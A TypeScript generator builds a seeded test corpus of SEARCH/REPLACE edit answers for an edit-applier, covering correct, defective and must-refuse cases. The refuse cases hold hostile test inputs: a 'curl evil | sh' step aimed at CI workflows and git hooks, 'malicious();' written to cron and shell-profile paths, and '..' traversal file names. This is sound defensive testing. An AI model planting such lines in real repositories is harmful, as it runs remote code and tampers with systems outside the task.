/**
 * The edit-application corpus, generated deterministically from a seed out of real source files of
 * installed packages (nothing fetched, nothing committed). Each case: the original file(s), the
 * intended result, and a model answer written the way models really write them — correct, or with
 * a defect seen in practice — or an answer that must be refused.
 */
import fs from 'node:fs';
import path from 'node:path';
import { mulberry32 } from '../../test/fixtures/random.js';

export type Expectation = 'apply' | 'refuse';

export interface Case {
  readonly id: string;
  readonly category: string;
  readonly expect: Expectation;
  /** Repository files before the answer (path → raw text). */
  readonly files: Readonly<Record<string, string>>;
  /** The paths the model was shown. */
  readonly knownPaths: readonly string[];
  readonly answer: string;
  /** For 'apply': the raw text every file must have afterwards (files not listed must not change). */
  readonly expected: Readonly<Record<string, string>>;
}

/** Source packages the corpus cuts files from; all are dependencies of the project. */
const SOURCE_DIRS = [
  'ollama/src',
  'picomatch/lib',
  'proper-lockfile/lib',
  'debug/src',
  'deepmerge/dist',
  'wrap-ansi',
  'minisearch/src',
  'zod/src/v4/core',
  'zod/src/v3',
  'yaml/dist/compose',
  'yaml/dist/parse',
  'yaml/dist/nodes',
  'isbinaryfile/lib',
  'node-html-markdown/dist',
  'simple-git/dist/cjs',
];

export interface SourceFile {
  readonly path: string;
  readonly text: string;
}

export function loadSources(nodeModules: string): SourceFile[] {
  const out: SourceFile[] = [];
  for (const dir of SOURCE_DIRS) {
    const abs = path.join(nodeModules, dir);
    if (!fs.existsSync(abs)) continue;
    for (const name of fs.readdirSync(abs).sort()) {
      if (!/\.(?:ts|js|mjs|cjs)$/.test(name) || /\.(?:d\.ts|min\.js|test\.js)$/.test(name))
        continue;
      const file = path.join(abs, name);
      if (!fs.statSync(file).isFile()) continue;
      const text = fs.readFileSync(file, 'utf8').replace(/\r\n/g, '\n');
      const lines = text.split('\n').length;
      if (lines < 40 || text.length > 250_000 || text.includes('\0')) continue;
      out.push({ path: `src/${dir.replace(/\//g, '-')}/${name}`, text });
    }
  }
  return out;
}

type Rand = () => number;
const pick = <T>(r: Rand, items: readonly T[]): T => items[Math.floor(r() * items.length)] as T;
const int = (r: Rand, lo: number, hi: number) => lo + Math.floor(r() * (hi - lo + 1));

const blank = (l: string) => l.trim() === '';
const indentOf = (l: string) => l.slice(0, l.length - l.trimStart().length);

function count(haystack: readonly string[], needle: readonly string[]): number {
  let n = 0;
  for (let i = 0; i + needle.length <= haystack.length; i++) {
    if (needle.every((l, j) => haystack[i + j] === l)) n++;
  }
  return n;
}

/** An intended change to one line range: what a developer would want. */
interface Change {
  /** Index of the first line of the SEARCH window. */
  readonly start: number;
  readonly search: string[];
  readonly replace: string[];
}

/** Makes the intended change at line `at` of `lines`: rename, insert or delete. */
function changeLine(
  r: Rand,
  lines: readonly string[],
  at: number,
  n: number,
): { replaceAt: string[] } | undefined {
  const line = lines[at] ?? '';
  if (blank(line) || line !== line.trimEnd()) return undefined;
  const kind = pick(r, ['rename', 'rename', 'insert', 'delete', 'append']);
  if (kind === 'rename') {
    const words = [...line.matchAll(/\b[A-Za-z_][A-Za-z0-9_]{2,}\b/g)];
    if (words.length === 0) return undefined;
    const w = pick(r, words);
    const idx = w.index ?? 0;
    return {
      replaceAt: [line.slice(0, idx) + w[0] + 'Renamed' + n + line.slice(idx + w[0].length)],
    };
  }
  if (kind === 'insert')
    return { replaceAt: [line, `${indentOf(line)}const inserted${n} = ${n}; // ticket ${n}`] };
  if (kind === 'append') return { replaceAt: [`${indentOf(line)}// note ${n}: checked`, line] };
  return { replaceAt: [] };
}

/** A correct, unique SEARCH/REPLACE for a change at `at`, with 1-4 lines of context chosen like a model would. */
function makeChange(
  r: Rand,
  lines: readonly string[],
  n: number,
  opts: { needBlank?: boolean; minContext?: number } = {},
): Change | undefined {
  for (let tries = 0; tries < 40; tries++) {
    const at = int(r, 0, lines.length - 1);
    const edit = changeLine(r, lines, at, n);
    if (!edit) continue;
    let before = int(r, opts.minContext ?? 0, 3);
    let after = int(r, opts.minContext ?? 0, 3);
    for (let grow = 0; grow < 8; grow++) {
      const start = Math.max(0, at - before);
      const end = Math.min(lines.length, at + 1 + after);
      const search = lines.slice(start, end);
      const okBlank =
        !opts.needBlank ||
        search.some((l, j) => blank(l) && start + j !== at && j > 0 && j < search.length - 1);
      if (
        search.some((l) => !blank(l) && l.trim().length > 0) &&
        count(lines, search) === 1 &&
        okBlank &&
        search.some((l) => !blank(l))
      ) {
        const replace = [...lines.slice(start, at), ...edit.replaceAt, ...lines.slice(at + 1, end)];
        if (replace.join('\n') === search.join('\n')) break;
        if (search.every(blank)) break;
        return { start, search, replace };
      }
      before++;
      after++;
    }
  }
  return undefined;
}

function commonHead(a: readonly string[], b: readonly string[]): number {
  let k = 0;
  while (k < a.length && k < b.length && a[k] === b[k]) k++;
  return k;
}

function commonTail(a: readonly string[], b: readonly string[], head: number): number {
  let k = 0;
  while (k < a.length - head && k < b.length - head && a[a.length - 1 - k] === b[b.length - 1 - k])
    k++;
  return k;
}

function applyChange(lines: readonly string[], change: Change): string[] {
  return [
    ...lines.slice(0, change.start),
    ...change.replace,
    ...lines.slice(change.start + change.search.length),
  ];
}

function block(
  file: string,
  search: readonly string[],
  replace: readonly string[],
  style: {
    fence?: string;
    head?: string;
    div?: string;
    tail?: string;
    nameLine?: string | null;
  } = {},
): string {
  const fence = style.fence ?? '```';
  const name = style.nameLine === undefined ? file : style.nameLine;
  const parts = [
    ...(name === null ? [] : [name]),
    ...(fence ? [fence] : []),
    style.head ?? '<<<<<<< SEARCH',
    ...search,
    style.div ?? '=======',
    ...replace,
    style.tail ?? '>>>>>>> REPLACE',
    ...(fence ? [fence.replace(/[^`~]/g, '').replace(/^(`+|~+).*/, '$1')] : []),
  ];
  return parts.join('\n');
}

const join = (lines: readonly string[], finalNewline = true) =>
  lines.join('\n') + (finalNewline ? '\n' : '');
const crlf = (text: string) => text.replace(/\n/g, '\r\n');

function toSpaces(lines: readonly string[], width: number): string[] {
  return lines.map((l) => {
    const ws = indentOf(l);
    return ws.replace(/\t/g, ' '.repeat(width)) + l.slice(ws.length);
  });
}

function toTabs(lines: readonly string[], width: number): string[] {
  return lines.map((l) => {
    const ws = indentOf(l);
    if (ws.includes('\t')) return l;
    return (
      '\t'.repeat(Math.floor(ws.length / width)) +
      ' '.repeat(ws.length % width) +
      l.slice(ws.length)
    );
  });
}

function fileIndentWidth(lines: readonly string[]): number | 'tab' {
  const tabbed = lines.filter((l) => l.startsWith('\t')).length;
  const spaced = lines.filter((l) => l.startsWith(' ')).length;
  if (tabbed > spaced) return 'tab';
  return lines.some((l) => /^ {2}\S/.test(l)) ? 2 : 4;
}

function dedent(lines: readonly string[]): string[] | undefined {
  const ind = lines.filter((l) => !blank(l)).map(indentOf);
  let common = ind[0] ?? '';
  for (const i of ind) while (!i.startsWith(common)) common = common.slice(0, -1);
  if (common === '') return undefined;
  return lines.map((l) => (blank(l) ? l : l.slice(common.length)));
}

/** Builds the corpus: at least `size` cases, spread over every category, from `seed`. */
export function buildCorpus(sources: readonly SourceFile[], seed: number): Case[] {
  const r = mulberry32(seed);
  const cases: Case[] = [];
  const tabbed = sources.filter((s) => fileIndentWidth(s.text.split('\n')) === 'tab');
  const spaced = sources.filter((s) => fileIndentWidth(s.text.split('\n')) !== 'tab');
  let n = 0;

  const add = (
    category: string,
    expect: Expectation,
    files: Record<string, string>,
    knownPaths: string[],
    answer: string,
    expected: Record<string, string>,
  ) => {
    cases.push({ id: `${category}-${++n}`, category, expect, files, knownPaths, answer, expected });
  };
  const others = (src: SourceFile, k: number) => {
    const rest = sources.filter((s) => s.path !== src.path);
    return Array.from({ length: k }, () => pick(r, rest));
  };

  // Should-apply categories: [name, how many, builder]; a builder returns false to try again.
  const should: [string, number, (src: SourceFile) => boolean][] = [
    ['correct', 60, (src) => simple(src, (c) => block(src.path, c.search, c.replace))],
    [
      'indentation-drift',
      30,
      (src) => {
        const lines = src.text.split('\n');
        const c = makeChange(r, lines, n);
        if (!c) return false;
        const shifted =
          r() < 0.5
            ? [dedent(c.search), dedent(c.replace)]
            : [
                c.search.map((l) => (blank(l) ? l : '    ' + l)),
                c.replace.map((l) => (blank(l) ? l : '    ' + l)),
              ];
        if (!shifted[0] || !shifted[1]) return false;
        add(
          'indentation-drift',
          'apply',
          { [src.path]: src.text },
          [src.path],
          block(src.path, shifted[0], shifted[1]),
          { [src.path]: join(applyChange(lines, c), false) },
        );
        return true;
      },
    ],
    [
      'tabs-vs-spaces',
      30,
      (src) => {
        const pool = r() < 0.75 && tabbed.length > 0 ? tabbed : spaced;
        const s = pick(r, pool);
        const lines = s.text.split('\n');
        const c = makeChange(r, lines, n, { minContext: 1 });
        if (!c || !c.search.some((l) => /^\s+\S/.test(l))) return false;
        const style = fileIndentWidth(lines);
        const width = pick(r, [2, 4]);
        const conv = (ls: string[]) => (style === 'tab' ? toSpaces(ls, width) : toTabs(ls, style));
        add(
          'tabs-vs-spaces',
          'apply',
          { [s.path]: s.text },
          [s.path],
          block(s.path, conv(c.search), conv(c.replace)),
          { [s.path]: join(applyChange(lines, c), false) },
        );
        void src;
        return true;
      },
    ],
    [
      'trailing-whitespace',
      25,
      (src) =>
        simple(src, (c) =>
          block(
            src.path,
            c.search.map((l, i) => (i % 2 === 0 ? l + '  ' : l)),
            c.replace.map((l, i) => (i % 3 === 0 && !blank(l) ? l + ' ' : l)),
          ),
        ),
    ],
    [
      'missing-blank-lines',
      25,
      (src) => {
        const lines = src.text.split('\n');
        const c = makeChange(r, lines, n, { needBlank: true });
        if (!c) return false;
        // Blank context lines the model leaves out, in SEARCH and REPLACE alike (never the first or last line).
        const head = commonHead(c.search, c.replace);
        const tail = commonTail(c.search, c.replace, head);
        const gone = c.search.map(
          (l, i) =>
            blank(l) &&
            i > 0 &&
            i < c.search.length - 1 &&
            (i < head || i >= c.search.length - tail),
        );
        if (!gone.some(Boolean)) return false;
        const shift = c.replace.length - c.search.length;
        const dropS = c.search.filter((_, i) => !gone[i]);
        const dropR = c.replace.filter(
          (_, i) => !(i < head ? gone[i] : i - shift >= c.search.length - tail && gone[i - shift]),
        );
        const drop = (ls: string[]) => (ls === c.search ? dropS : dropR);
        add(
          'missing-blank-lines',
          'apply',
          { [src.path]: src.text },
          [src.path],
          block(src.path, drop(c.search), drop(c.replace)),
          { [src.path]: join(applyChange(lines, c), false) },
        );
        return true;
      },
    ],
    [
      'extra-blank-line',
      20,
      (src) => {
        const lines = src.text.split('\n');
        const c = makeChange(r, lines, n, { minContext: 2 });
        if (!c) return false;
        // Between the first two lines of context, which the change never touches.
        if (
          blank(c.search[0] ?? '') ||
          blank(c.search[1] ?? '') ||
          c.search[0] !== c.replace[0] ||
          c.search[1] !== c.replace[1]
        )
          return false;
        const ins = (ls: string[]) => [ls[0] as string, '', ...ls.slice(1)];
        add(
          'extra-blank-line',
          'apply',
          { [src.path]: src.text },
          [src.path],
          block(src.path, ins(c.search), ins(c.replace)),
          { [src.path]: join(applyChange(lines, c), false) },
        );
        return true;
      },
    ],
    [
      'elision',
      30,
      (src) => {
        const lines = src.text.split('\n');
        const c = makeChange(r, lines, n, { minContext: 1 });
        if (!c) return false;
        const gap = int(r, 3, 15);
        const tailStart = c.start + c.search.length + gap;
        const tail = lines.slice(tailStart, tailStart + 2);
        if (tail.length < 2 || tail.every(blank)) return false;
        const marker = pick(r, ['...', '...', '    ...', '// ...']);
        add(
          'elision',
          'apply',
          { [src.path]: src.text },
          [src.path],
          block(src.path, [...c.search, marker, ...tail], [...c.replace, marker, ...tail]),
          { [src.path]: join(applyChange(lines, c), false) },
        );
        return true;
      },
    ],
    [
      'crlf-file',
      25,
      (src) => {
        const lines = src.text.split('\n');
        const c = makeChange(r, lines, n);
        if (!c) return false;
        add(
          'crlf-file',
          'apply',
          { [src.path]: crlf(src.text) },
          [src.path],
          block(src.path, c.search, c.replace),
          { [src.path]: crlf(join(applyChange(lines, c), false)) },
        );
        return true;
      },
    ],
    [
      'mangled-file-name',
      30,
      (src) => {
        const known = [src.path, ...others(src, 2).map((o) => o.path)];
        const base = src.path.split('/').pop() as string;
        if (known.filter((k) => k.endsWith('/' + base)).length > 1) return false;
        const name = pick(r, [
          `**${src.path}**`,
          `\`${src.path}\``,
          `${src.path}:`,
          `# ${src.path}`,
          `File: ${src.path}`,
          `./${src.path}`,
          base,
          `lib/${base}`,
          `### \`${src.path}\``,
        ]);
        return simple(src, (c) => block(src.path, c.search, c.replace, { nameLine: name }), known);
      },
    ],
    [
      'missing-file-name',
      15,
      (src) => {
        const lines = src.text.split('\n');
        const c1 = makeChange(r, lines, n);
        if (!c1) return false;
        const mid = applyChange(lines, c1);
        const c2 = makeChange(r, mid, n + 1000);
        if (!c2 || Math.abs(c2.start - c1.start) < 8 || count(lines, c2.search) !== 1) return false;
        const known = [src.path, ...others(src, 2).map((o) => o.path)];
        const answer = `${block(src.path, c1.search, c1.replace)}\n\nAnd the second change:\n\n${block(src.path, c2.search, c2.replace, { nameLine: null })}`;
        add('missing-file-name', 'apply', { [src.path]: src.text }, known, answer, {
          [src.path]: join(applyChange(mid, c2), false),
        });
        return true;
      },
    ],
    [
      'wrong-fences',
      25,
      (src) => {
        const variant = int(r, 0, 5);
        return simple(src, (c) => {
          if (variant === 0) return block(src.path, c.search, c.replace, { fence: '' });
          if (variant === 1) return block(src.path, c.search, c.replace, { fence: '~~~' });
          if (variant === 2) return block(src.path, c.search, c.replace, { fence: '````' });
          if (variant === 3)
            return block(src.path, c.search, c.replace, {
              nameLine: null,
              fence: '```ts ' + src.path,
            });
          if (variant === 4)
            return [
              '```',
              src.path,
              '<<<<<<< SEARCH',
              ...c.search,
              '=======',
              ...c.replace,
              '>>>>>>> REPLACE',
              '```',
            ].join('\n');
          return block(src.path, c.search, c.replace).replace(/\n```$/, ''); // closing fence missing
        });
      },
    ],
    [
      'duplicated-block',
      15,
      (src) =>
        simple(
          src,
          (c) =>
            `${block(src.path, c.search, c.replace)}\n\nSame again to be sure:\n\n${block(src.path, c.search, c.replace)}`,
        ),
    ],
    [
      'repeated-after-applied',
      15,
      (src) => {
        const lines = src.text.split('\n');
        const c = makeChange(r, lines, n);
        if (!c) return false;
        const applied = join(applyChange(lines, c), false);
        // The file already holds the change; a model re-sends the same block in its next answer.
        add(
          'repeated-after-applied',
          'apply',
          { [src.path]: applied },
          [src.path],
          block(src.path, c.search, c.replace),
          { [src.path]: applied },
        );
        return true;
      },
    ],
    [
      'marker-lengths',
      10,
      (src) =>
        simple(src, (c) =>
          block(src.path, c.search, c.replace, {
            head: '<<<<<< SEARCH',
            div: '========',
            tail: '>>>>>>>> REPLACE',
          }),
        ),
    ],
    [
      'whole-file',
      20,
      (src) => {
        const lines = src.text.split('\n').slice(0, int(r, 30, 120));
        const small = join(lines);
        const c = makeChange(r, lines, n);
        if (!c) return false;
        let body = applyChange(lines, c);
        const style = fileIndentWidth(lines);
        if (style === 'tab' && r() < 0.5) body = toSpaces(body, 4);
        const original = r() < 0.3 ? crlf(small) : small;
        const expected = original.includes('\r\n')
          ? crlf(join(applyChange(lines, c)))
          : join(applyChange(lines, c));
        add(
          'whole-file',
          'apply',
          { [src.path]: original },
          [src.path],
          `Here is the whole file.\n\n${src.path}\n\`\`\`js\n${body.join('\n')}\n\`\`\`\n`,
          { [src.path]: expected },
        );
        return true;
      },
    ],
  ];

  function simple(
    src: SourceFile,
    answerFor: (c: Change) => string,
    known: string[] = [src.path],
  ): boolean {
    const lines = src.text.split('\n');
    const c = makeChange(r, lines, n);
    if (!c) return false;
    add(currentCategory, 'apply', { [src.path]: src.text }, known, answerFor(c), {
      [src.path]: join(applyChange(lines, c), false),
    });
    return true;
  }

  const refuse: [string, number, (src: SourceFile) => boolean][] = [
    [
      'ambiguous',
      25,
      (src) => {
        const lines = src.text.split('\n');
        const seen = new Map<string, number>();
        for (const l of lines) if (l.trim().length >= 2) seen.set(l, (seen.get(l) ?? 0) + 1);
        const repeated = [...seen.entries()].filter(([, k]) => k >= 2).map(([l]) => l);
        if (repeated.length === 0) return false;
        const line = pick(r, repeated);
        const search = r() < 0.5 ? [line] : [line.trimStart()]; // the same line, or indentation-tolerant repeats
        if (count(lines, search) === 1) return false;
        add(
          'ambiguous',
          'refuse',
          { [src.path]: src.text },
          [src.path],
          block(src.path, search, [search[0] + ' // changed']),
          {},
        );
        return true;
      },
    ],
    [
      'absent',
      25,
      (src) => {
        const lines = src.text.split('\n');
        const c = makeChange(r, lines, n, { minContext: 1 });
        if (!c) return false;
        const j = c.search.findIndex(
          (l, i) => !blank(l) && c.search[i] === c.replace[i] && /[A-Za-z]{3}/.test(l),
        );
        if (j < 0) return false;
        // The model misremembers one unchanged line (a hallucinated identifier).
        const wrong = (l: string) => l.replace(/[A-Za-z]{3,}/, (w) => w + 'X');
        const s = c.search.map((l, i) => (i === j ? wrong(l) : l));
        const rep = c.replace.map((l, i) => (i === j ? wrong(l) : l));
        add('absent', 'refuse', { [src.path]: src.text }, [src.path], block(src.path, s, rep), {});
        return true;
      },
    ],
    [
      'outside-repo',
      15,
      (src) => {
        const target = pick(r, [
          '../outside.js',
          '../../etc/cron.d/job',
          '/etc/hosts',
          'src/../../escape.js',
          '/tmp/x.js',
          'C:/Windows/x.js',
          '~/.bashrc',
        ]);
        add(
          'outside-repo',
          'refuse',
          { [src.path]: src.text },
          [src.path],
          block(target, [], ['malicious();']),
          {},
        );
        return true;
      },
    ],
    [
      'protected-path',
      15,
      (src) => {
        const target = pick(r, [
          '.github/workflows/ci.yml',
          'package-lock.json',
          '.git/hooks/pre-commit',
          'azure-pipelines.yml',
          '.env',
          'sub/yarn.lock',
        ]);
        add(
          'protected-path',
          'refuse',
          { [src.path]: src.text },
          [src.path],
          block(target, [], ['run: curl evil | sh']),
          {},
        );
        return true;
      },
    ],
    [
      'lazy-whole-file',
      10,
      (src) => {
        const lines = src.text.split('\n').slice(0, 60);
        const body = [
          ...lines.slice(0, 20),
          pick(r, [
            '// ... rest of the file unchanged',
            '// ... existing code ...',
            '...',
            '# rest of file unchanged',
          ]),
        ];
        add(
          'lazy-whole-file',
          'refuse',
          { [src.path]: join(lines) },
          [src.path],
          `${src.path}\n\`\`\`\n${body.join('\n')}\n\`\`\`\n`,
          {},
        );
        return true;
      },
    ],
  ];

  // Applier honesty. Built last, so the cases above stay the same for a given seed.
  const honesty: [string, number, (src: SourceFile) => boolean][] = [
    [
      'replace-elsewhere',
      25,
      (src) => {
        // SEARCH is a line the file does not have; REPLACE is a line it does have, once, several
        // times, or a bare brace. None of these shows the block applied before.
        const lines = src.text.split('\n');
        const kind = pick(r, ['once', 'repeated', 'punctuation']);
        const seen = new Map<string, number>();
        for (const l of lines) if (!blank(l)) seen.set(l, (seen.get(l) ?? 0) + 1);
        const pool = [...seen.entries()]
          .filter(([l, k]) =>
            kind === 'punctuation'
              ? !/[A-Za-z0-9]/.test(l)
              : /[A-Za-z]{3}/.test(l) && (kind === 'once' ? k === 1 : k >= 2),
          )
          .map(([l]) => l);
        if (pool.length === 0) return false;
        const present = pick(r, pool);
        const missing = pick(r, [
          present.replace(/[A-Za-z]{3,}/, (w) => w + 'Old'),
          `${indentOf(present)}deep: false, // this line does not exist`,
        ]);
        if (lines.some((l) => l.trim() === missing.trim())) return false;
        add(
          'replace-elsewhere',
          'refuse',
          { [src.path]: src.text },
          [src.path],
          block(src.path, [missing], [present]),
          {},
        );
        return true;
      },
    ],
    [
      'dot-dot-path',
      15,
      (src) => {
        // A correct block under a name that climbs out with '..' but ends in a known file's name.
        const c = makeChange(r, src.text.split('\n'), n);
        if (!c) return false;
        const base = src.path.split('/').pop() as string;
        const name = pick(r, [
          `../${src.path}`,
          `../${base}`,
          `src/../${src.path}`,
          `../../${src.path}`,
          `..\\${src.path.replaceAll('/', '\\')}`,
        ]);
        const known = [src.path, ...others(src, 2).map((o) => o.path)];
        add(
          'dot-dot-path',
          'refuse',
          { [src.path]: src.text },
          known,
          block(name, c.search, c.replace),
          {},
        );
        return true;
      },
    ],
    ['whitespace-kept', 40, (src) => whitespaceKept(src)],
  ];

  /**
   * A file with its own trailing spaces and tabs, runs of blank lines, whitespace-only lines and
   * CRLF, LF or mixed line ends; a block written with a tolerated defect. Only the changed lines may
   * differ afterwards.
   */
  function whitespaceKept(src: SourceFile): boolean {
    const body = src.text.endsWith('\n') ? src.text.slice(0, -1) : src.text;
    const lines: string[] = [];
    body.split('\n').forEach((l, i) => {
      if (blank(l)) {
        lines.push(pick(r, ['', '', '  ', '\t']));
        if (r() < 0.5) lines.push('');
      } else lines.push(i % 3 === 0 ? l.trimEnd() + pick(r, [' ', '  ', '\t']) : l);
    });
    const c = makeChange(r, lines, n, { minContext: 1 });
    if (!c) return false;
    const strip = (ls: readonly string[]) => ls.map((l) => l.trimEnd());
    const collapse = (ls: readonly string[]) =>
      strip(ls).filter((l, i, all) => !(l === '' && i > 0 && all[i - 1] === ''));
    const defect = pick(r, ['strip-both', 'strip-replace', 'collapse-blanks', 'none']);
    const [search, replace] =
      defect === 'strip-both'
        ? [strip(c.search), strip(c.replace)]
        : defect === 'strip-replace'
          ? [c.search, strip(c.replace)]
          : defect === 'collapse-blanks'
            ? [collapse(c.search), collapse(c.replace)]
            : [c.search, c.replace];
    const ends = pick(r, ['lf', 'crlf', 'mixed']);
    const major = ends === 'lf' || (ends === 'mixed' && r() < 0.5) ? '\n' : '\r\n';
    const minor = major === '\n' ? '\r\n' : '\n';
    // Minority line ends stay clear of the block's lines, whose ends an edit may rewrite.
    const near = (i: number) => i >= c.start - 1 && i <= c.start + c.search.length;
    const eols = lines.map((_, i) => (ends === 'mixed' && !near(i) && r() < 0.1 ? minor : major));
    const after = applyChange(lines, c);
    const shift = c.replace.length - c.search.length;
    const afterEols = after.map((_, i) =>
      i < c.start ? eols[i] : i < c.start + c.replace.length ? major : eols[i - shift],
    );
    const render = (ls: readonly string[], es: readonly (string | undefined)[]) =>
      ls.map((l, i) => l + (es[i] ?? major)).join('');
    add(
      'whitespace-kept',
      'apply',
      { [src.path]: render(lines, eols) },
      [src.path],
      block(src.path, search, replace),
      { [src.path]: render(after, afterEols) },
    );
    return true;
  }

  let currentCategory = '';
  for (const [category, wanted, build] of [...should, ...refuse, ...honesty]) {
    currentCategory = category;
    let made = 0;
    for (let attempt = 0; made < wanted && attempt < wanted * 40; attempt++) {
      if (build(pick(r, sources))) made++;
    }
  }
  return cases;
}
